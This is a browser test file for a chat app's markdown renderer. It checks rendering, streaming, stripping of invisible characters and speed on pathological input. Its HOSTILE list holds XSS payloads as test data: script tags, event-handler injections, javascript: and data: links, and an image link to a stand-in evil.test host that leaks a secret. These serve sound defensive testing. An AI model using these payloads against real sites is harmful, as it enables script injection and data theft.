"""The markdown of answers: what it shows, what it never does, and that streaming ends where the whole text does."""

import time

import pytest
import pytest_asyncio

from channels_app.tests.browser.conftest import Chat

# Quadratic work on these texts takes minutes; this is much for a busy machine, too.
MOST_S = 20.0

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

RENDER = """(module, text) => {
  const box = document.createElement("div");
  box.append(module.renderMarkdown(text));
  return box.innerHTML.replaceAll(' dir="auto"', "");
}"""
STREAM = """async (module, pieces) => {
  const box = document.body.appendChild(document.createElement("div"));
  const stream = new module.MarkdownStream(box);
  const drawn = [];
  for (const piece of pieces) {
    stream.append(piece);
    await new Promise(requestAnimationFrame);
    drawn.push(box.innerHTML);
  }
  stream.finish();
  return { drawn, final: box.innerHTML };
}"""

# Rows of marks as no person writes them, from a generator with a seed. How many were drawn.
MARKS = r"""(module, [seed, rows]) => {
  const marks = ["[", "]", "(", ")", "![", "](", "*", "**", "_", "~~", "`", "``", "\\", "<", ">", "<br>", "https://x.test/a",
    "\n", "\n\n", "- ", "1. ", "> ", "|", "|-|", "```", "# ", " ", "a", "2018-12-31", "&amp;", "$$"];
  const next = () => (seed = (Math.imul(seed, 1664525) + 1013904223) >>> 0) / 2 ** 32;
  let drawn = 0;
  for (let row = 0; row < rows; row += 1) {
    const text = Array.from({ length: 1 + Math.floor(next() * 24) }, () => marks[Math.floor(next() * marks.length)]).join("");
    const box = document.createElement("div");
    box.append(module.renderMarkdown(text));
    if (!box.querySelector("script, style, img, iframe")) drawn += 1;
  }
  return drawn;
}"""

LINK = 'rel="noopener noreferrer" target="_blank"'
# Everything that a text became, shown whole and streamed character by character.
INSPECT = """async (module, text) => {
  const box = document.body.appendChild(document.createElement("div"));
  const stream = new module.MarkdownStream(document.body.appendChild(document.createElement("div")));
  box.append(module.renderMarkdown(text));
  for (const character of text) stream.append(character);
  await new Promise(requestAnimationFrame);
  const all = [...box.querySelectorAll("*"), ...box.nextSibling.querySelectorAll("*")];
  return {
    tags: [...new Set(all.map((node) => node.localName))],
    links: all.filter((node) => node.localName === "a").map((node) => node.href),
    attributes: [...new Set(all.flatMap((node) => node.getAttributeNames()))],
  };
}"""
FORBIDDEN_TAGS = {"script", "img", "iframe", "style", "link", "form", "base", "object", "embed", "animate", "b"}
FORBIDDEN_ATTRIBUTES = {"style", "src", "srcset", "srcdoc", "action", "formaction"}

CASES = {
    "a paragraph": ("One.\n\nTwo.", "<p>One.</p><p>Two.</p>"),
    "a line break": ("One\ntwo", "<p>One<br>two</p>"),
    "headings": ("# A\n###### B ##", "<h3>A</h3><h6>B</h6>"),
    "no heading without a space": ("#SPX", "<p>#SPX</p>"),
    "emphasis": (
        "*a* _b_ **c** __d__ ***e*** ~~f~~",
        "<p><em>a</em> <em>b</em> <strong>c</strong> <strong>d</strong> <strong><em>e</em></strong> <del>f</del></p>",
    ),
    "emphasis in emphasis": ("**a *b* c**", "<p><strong>a <em>b</em> c</strong></p>"),
    "names with underscores": ("get_bars_now and 2 * 3 * 4", "<p>get_bars_now and 2 * 3 * 4</p>"),
    "unclosed marks": ("**a and *b and `c", "<p>**a and *b and `c</p>"),
    "escapes": (r"\*a\* \_b\_ 1\. \`c\`", "<p>*a* _b_ 1. `c`</p>"),
    "maths stays text": (r"$$x_1 \le y_2$$ and \(a\)", r"<p>$$x_1 \le y_2$$ and \(a\)</p>"),
    "inline code": ("`a*b*` and `` c`d ``", "<p><code>a*b*</code> and <code>c`d</code></p>"),
    "a link": ("[a](https://x.test/p)", f'<p><a href="https://x.test/p" {LINK} title="https://x.test/p">a</a></p>'),
    "a link with brackets in its address": (
        "[RSI](https://x.test/a_(b))",
        f'<p><a href="https://x.test/a_(b)" {LINK} title="https://x.test/a_(b)">RSI</a></p>',
    ),
    "a bare address": (
        "(see https://x.test/a_b.)",
        f'<p>(see <a href="https://x.test/a_b" {LINK}>https://x.test/a_b</a>.)</p>',
    ),
    "an image becomes a link": (
        "![chart](https://x.test/c.png)",
        f'<p><a href="https://x.test/c.png" {LINK} title="https://x.test/c.png">chart</a></p>',
    ),
    "an image in a link's label": (
        "[![a](https://x.test/c.png)](https://x.test/p) and on",
        f'<p><a href="https://x.test/p" {LINK} title="https://x.test/p">a</a> and on</p>',
    ),
    "a label that is half an image": (
        "a [![x]](https://x.test/p) b",
        f'<p>a <a href="https://x.test/p" {LINK} title="https://x.test/p">![x]</a> b</p>',
    ),
    "a link without words shows where it leads": (
        "![](https://x.test/c.png) [<br>](https://x.test/p)",
        f'<p><a href="https://x.test/c.png" {LINK} title="https://x.test/c.png">https://x.test/c.png</a> '
        f'<a href="https://x.test/p" {LINK} title="https://x.test/p">https://x.test/p</a></p>',
    ),
    "a tight list": ("- a\n- b", "<ul><li>a</li><li>b</li></ul>"),
    "a loose list": ("- a\n\n- b", "<ul><li><p>a</p></li><li><p>b</p></li></ul>"),
    "an ordered list that starts late": ("3. a\n4. b", '<ol start="3"><li>a</li><li>b</li></ol>'),
    "a list in a list": ("- a\n  1. b\n  2. c\n- d", "<ul><li>a<ol><li>b</li><li>c</li></ol></li><li>d</li></ul>"),
    "a list after its lead": ("Rules:\n1. a\n2. b", "<p>Rules:</p><ol><li>a</li><li>b</li></ol>"),
    "a year is no list": ("It fell in\n2008. Then it rose.", "<p>It fell in<br>2008. Then it rose.</p>"),
    "a quote": ("> a\n> b\n\nc", "<blockquote><p>a<br>b</p></blockquote><p>c</p>"),
    "a date": ("On 2018-12-31: up", '<p>On <span class="whole">2018-12-31</span>: up</p>'),
    "a rule": ("a\n\n---\n\nb", "<p>a</p><hr><p>b</p>"),
    "a break in a table cell": (
        "|a|b|\n|-|-:|\n|1<br>2|`x\\|y`|",
        '<div class="table" tabindex="0" role="group" aria-label="Table"><table><thead><tr><th>a</th>'
        '<th class="align-right">b</th></tr></thead><tbody><tr><td class="whole">1<br>2</td><td class="align-right">'
        "<code>x|y</code></td></tr></tbody></table></div>",
    ),
}

HOSTILE = [
    "<script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<svg/onload=document.title='owned'><animate onbegin=document.title='owned' attributeName=x>",
    "<iframe srcdoc='<script>parent.document.title=1</script>'></iframe><base href=https://evil.test/>",
    "<style>@import 'https://evil.test/x.css'</style><link rel=stylesheet href=https://evil.test/x.css>",
    "<form action=https://evil.test><button>go</button></form><details open ontoggle=document.title='owned'>",
    "[a](javascript:document.title='owned')",
    "[a](JaVaScRiPt:document.title='owned') [b](java\tscript:alert(1)) [c](&#106;avascript:alert(1))",
    "[a](data:text/html,<script>document.title='owned'</script>)",
    "[a](vbscript:x) [b](file:///etc/passwd) [c](//evil.test/x) [d](/signout/) [e](blob:https://evil.test/1)",
    "<javascript:document.title='owned'> javascript:document.title='owned'",
    "![a](https://evil.test/steal.png?secret=1)",
    "![a][ref]\n\n[ref]: https://evil.test/steal.png",
    "[![a](https://evil.test/i.png)](javascript:document.title='owned')",
    "```html\n<script>document.title='owned'</script>\n```",
    "| <img src=x onerror=document.title='owned'> | b |\n|---|---|\n| <svg onload=document.title='owned'> | c |",
    "[a](https://x.test/\" onmouseover=\"document.title='owned')",
    "**<b onclick=document.title='owned'>x</b>** `<script>`",
]

LONG = """The **14-day RSI** of `SPX`:

| Measure | Value |
|:--|--:|
| Latest | 58.3 |

1. first

2. second
   - nested *item*

```python
def f(x):

    return x * 2
```
> quoted [link](https://x.test/a)

- [x] done
- [ ] open

# End
"""

EXPLOSIVE = [
    "*a " * 20_000,
    "[" * 50_000,
    "`" * 50_000,
    "![a](" * 10_000,
    "> " * 20_000,
    "_a_b" * 12_000,
    "- " * 20_000,
    "|" * 30_000 + "\n" + "|-" * 30_000,
    "https://" * 7_000,
    "".join("`" * length + "a" for length in range(300)),
    "**a*" * 9_000,
    "[a](" * 12_000 + ")" * 12_000,
    "\u001b[" * 20_000,
]


@pytest_asyncio.fixture(loop_scope="session")
async def blank(chat: Chat) -> Chat:
    """The page, whose socket nobody answers."""
    await chat.page.goto(chat.gateway.url)
    return chat


async def test_markdown_is_shown_as_its_writer_meant_it(blank: Chat) -> None:
    shown = {name: await blank.module("markdown", RENDER, text) for name, (text, _) in CASES.items()}

    assert shown == {name: html for name, (_, html) in CASES.items()}


async def test_code_keeps_its_characters_and_names_its_language(blank: Chat) -> None:
    html = await blank.module("markdown", RENDER, "```python title=x\n  a <b> *c*\n\n~~~\n```\nafter")

    assert "<span>python</span>" in html
    assert "<code>  a &lt;b&gt; *c*\n\n~~~</code>" in html
    assert html.endswith("<p>after</p>")


async def test_hostile_text_stays_text(blank: Chat) -> None:
    """Source: DESIGN.md section 8, and a model that repeats what a stranger wrote."""
    title = await blank.page.title()
    found = {text: await blank.module("markdown", INSPECT, text) for text in HOSTILE}

    for text, seen in found.items():
        assert not set(seen["tags"]) & FORBIDDEN_TAGS, text
        assert all(link.startswith(("https://evil.test/", "https://x.test/")) for link in seen["links"]), text
        assert not [name for name in seen["attributes"] if name.startswith("on") or name in FORBIDDEN_ATTRIBUTES], text
    assert await blank.page.title() == title


async def test_invisible_and_direction_changing_characters_are_taken_out(blank: Chat) -> None:
    """Source: Unicode TR36 ("Trojan Source") and prompt injections in the tag block."""
    hidden = "pay\u202eevil\u202c \u2066x\u2069 a\u200bb\ufeff \u001b[31mred\u001b[0m \U000e0041\U000e0042end\u0000"

    assert await blank.module("markdown", RENDER, hidden) == "<p>payevil x ab red end</p>"


async def test_emoji_and_persian_keep_their_joiners(blank: Chat) -> None:
    text = "👨\u200d👩\u200d👧 می\u200cخواهم"

    assert await blank.module("markdown", RENDER, text) == f"<p>{text}</p>"


async def test_a_streamed_text_ends_as_the_whole_text(blank: Chat) -> None:
    whole = await blank.module("markdown", RENDER, LONG)
    for size in (2, 7, 50):
        pieces = [LONG[at : at + size] for at in range(0, len(LONG), size)]
        streamed = await blank.module("markdown", STREAM, pieces)

        assert streamed["final"].replace(' dir="auto"', "") == whole
        assert streamed["drawn"][-1].replace(' dir="auto"', "") == whole


async def test_an_open_bold_run_is_bold_before_it_is_closed(blank: Chat) -> None:
    streamed = await blank.module("markdown", STREAM, ["The **14-day", " RSI** of [SPX](https://x.te", "st/)"])

    assert "<strong>14-day</strong>" in streamed["drawn"][0]
    assert "(https" not in streamed["drawn"][1]


async def test_finished_blocks_are_never_drawn_again(blank: Chat) -> None:
    same = await blank.module(
        "markdown",
        """async (module) => {
          const box = document.body.appendChild(document.createElement("div"));
          const stream = new module.MarkdownStream(box);
          stream.append("One.\\n\\nTwo");
          await new Promise(requestAnimationFrame);
          stream.append(" goes on\\nand on.\\n\\n");
          await new Promise(requestAnimationFrame);
          const before = box.firstChild;
          for (const piece of ["Three", " four\\n", "\\n- five", "\\n- six"]) {
            stream.append(piece);
            await new Promise(requestAnimationFrame);
          }
          return [before === box.firstChild, box.childElementCount, box.children[1].textContent];
        }""",
    )

    assert same == [True, 4, "Two goes onand on."]


async def test_no_text_takes_long_to_show(blank: Chat) -> None:
    """Whole answers of marks that never close; the bound is loose, the work is linear."""
    for text in EXPLOSIVE:
        began = time.perf_counter()
        await blank.module("markdown", "(module, text) => { module.renderMarkdown(text); }", text)

        assert time.perf_counter() - began < MOST_S, text[:8]


async def test_no_row_of_marks_holds_the_page_up(blank: Chat) -> None:
    """A label that is searched for another link once made the parser begin again, for ever."""
    assert await blank.module("markdown", MARKS, [20260105, 10_000]) == 10_000
